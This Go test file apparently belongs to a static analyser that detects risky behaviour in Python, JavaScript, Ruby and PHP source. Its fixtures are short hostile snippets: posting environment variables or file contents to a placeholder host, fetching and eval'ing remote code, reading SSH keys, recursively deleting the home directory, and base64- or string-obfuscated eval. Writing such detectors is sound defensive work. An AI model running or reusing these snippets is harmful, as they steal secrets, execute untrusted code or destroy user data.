package lang

import (
	"slices"
	"strings"
	"testing"
)

// TestRead: each program does one thing that the events name.
func TestRead(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		lang Language
		src  string
		do   Do
		text string
		from From
	}{
		{Python, "import os\nos.system('a' + 'b')", Runs, "ab", 0},
		{Python, "import os as o\ngetattr(o, 'sys' + 'tem')('x')", Runs, "x", 0},
		{Python, "from subprocess import run as r\nr(['ls', '-l', 'a b'])", Runs, "ls -l 'a b'", 0},
		{Python, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", Evals, "print(1)", Decoded},
		{Python, "import pathlib\np = pathlib.Path.home() / '.ssh' / 'id'\np.read_text()", Reads, "~/.ssh/id", 0},
		{Python, "import os, requests\nrequests.post('https://h', json=dict(os.environ))", Sends, "https://h", Environment},
		{Python, "import requests\ndef f(u):\n    exec(g(u))\ndef g(u):\n    return requests.get(u).text\nf('https://h')", Evals, "", Network},
		{Python, "for n in ('a', 'b'):\n    open(f'/x/{n}')", Reads, "/x/a", 0},
		{Python, "x = 'olleh'[::-1]\nimport os\nos.popen(x)", Runs, "hello", 0},
		{JavaScript, "const { exec: e } = require('child_' + 'process'); e('x')", Runs, "x", 0},
		{JavaScript, "import { execSync as x } from 'node:child_process'\nx(`a ${'b'}`)", Runs, "a b", 0},
		{JavaScript, "globalThis[['ev','al'].join('')](atob('YWxlcnQoMSk='))", Evals, "alert(1)", Decoded},
		{JavaScript, "const fs = require('fs'); const f = (p) => fs.readFileSync(p); fetch('https://h', {method: 'POST', body: f('k')})", Sends, "https://h", File},
		{JavaScript, "require('https').get('https://h', r => { let d = ''; r.on('data', c => { d += c }); r.on('end', () => eval(d)) })", Evals, "", Network},
		{JavaScript, "require('fs').rmSync(require('os').homedir(), { recursive: true })", Deletes, "~", 0},
		{Ruby, "eval(Net::HTTP.get(URI('https://h')))", Evals, "", Network},
		{PHP, "<?php system(base64_decode('bHMgLWxhIC8='));", Runs, "ls -la /", Decoded},
	} {
		events, whole := Read(c.src, c.lang, Options{})
		if !whole || !slices.ContainsFunc(events, func(e Event) bool {
			return e.Do == c.do && (c.text == "" || slices.Contains(e.Texts, c.text)) && (c.from == 0 || slices.ContainsFunc(e.Marks, func(m Mark) bool { return m.From == c.from }))
		}) {
			t.Errorf("%q: %+v, want %d of %q from %d", c.src, events, c.do, c.text, c.from)
		}
	}
}

func TestDecode(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{"aGVsbG8gd29ybGQ=": "hello world", "68656c6c6f20776f": "hello wo", "a-plain-word": "", "aQB3AHIAIAB4AA==": "iwr x"} {
		if got, _ := Decode(in); got != want {
			t.Errorf("Decode(%q) = %q, want %q", in, got, want)
		}
	}
}

func FuzzRead(f *testing.F) {
	f.Add("import os\nos.system('x')", uint8(Python))
	f.Add("const {a: b} = require('x'); for (const q of [1]) { b(`${q}`) }", uint8(JavaScript))
	f.Fuzz(func(_ *testing.T, src string, l uint8) {
		if len(src) < 1<<14 {
			Read(strings.ToValidUTF8(src, "?"), Language(l%9), Options{})
		}
	})
}
